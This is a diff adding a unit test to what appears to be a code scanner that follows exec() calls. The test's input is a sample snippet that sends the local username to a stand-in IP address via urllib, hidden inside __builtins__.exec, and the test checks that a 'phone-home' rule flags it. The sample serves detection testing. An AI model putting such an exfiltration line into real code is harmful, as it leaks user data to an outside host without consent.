@@ -322,3 +322,13 @@ def test_every_node_the_rewrites_make_has_a_place() -> None:
         if "lineno" in node._attributes and not hasattr(node, "lineno")
     ]
     assert unplaced == []
+
+
+def test_code_run_through_the_builtins_module_is_inlined_too() -> None:
+    code = (
+        "import getpass, urllib.request\n"
+        "urllib.request.urlopen('http://203.0.113.45/?u=' + getpass.getuser())\n"
+    )
+    rules, held = _init(f"__builtins__.exec({code!r})\n")
+    assert rules["phone-home"] == 10
+    assert held
